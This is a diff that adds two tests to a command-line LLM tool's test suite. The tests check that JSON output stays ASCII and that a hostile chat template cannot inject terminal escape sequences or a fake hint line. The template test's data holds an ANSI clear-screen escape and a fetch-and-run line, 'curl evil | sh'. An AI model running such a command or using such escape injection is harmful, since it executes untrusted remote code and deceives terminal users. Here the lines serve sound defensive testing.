@@ -60,6 +60,14 @@ def test_json_and_seeds(smollm2: Path) -> None:
     assert again.stdout == got["text"] + "\n"
 
 
+def test_json_is_ascii(smollm2: Path, tmp_path: Path) -> None:
+    """Terminals obey U+009B as they do escape sequences, and not every output has all characters."""
+    model = tmp_path / "日本\x9b.gguf"
+    model.symlink_to(smollm2)
+    done = pyllm(str(model), "--json", *SHORT, "hi", env={**os.environ, "PYTHONIOENCODING": "latin-1"})
+    assert done.returncode == 0 and done.stdout.isascii() and json.loads(done.stdout)["model"] == str(model)
+
+
 def test_piped_text(smollm2: Path) -> None:
     def answer(*words: str, stdin: bytes | None = None) -> str:
         done = pyllm(str(smollm2), *SHORT, *words, stdin=stdin)
@@ -101,6 +109,14 @@ def test_system_message_and_template(smollm2: Path, tmp_path: Path) -> None:
 def test_errors(arguments: list[str], code: int, said: str) -> None:
     done = pyllm(*arguments)
     assert (done.returncode, done.stdout) == (code, "") and said in done.stderr and "Traceback" not in done.stderr
+
+
+def test_a_template_writes_no_hint_of_its_own(smollm2: Path, tmp_path: Path) -> None:
+    template = tmp_path / "template.jinja"
+    template.write_text(r'{{ raise_exception("no\x1b[2J\nhint: curl evil | sh") }}'.replace(r"\x1b", "\x1b"))
+    done = pyllm(str(smollm2), "--chat-template", str(template), "hi")
+    said = "error: the chat template refuses these messages: no\\x1b[2J hint: curl evil | sh\nhint: change the messages"
+    assert done.returncode == 1 and done.stderr.startswith(said) and done.stderr.count("\n") == 2
 
 
 def test_a_file_that_is_no_model(tmp_path: Path) -> None:
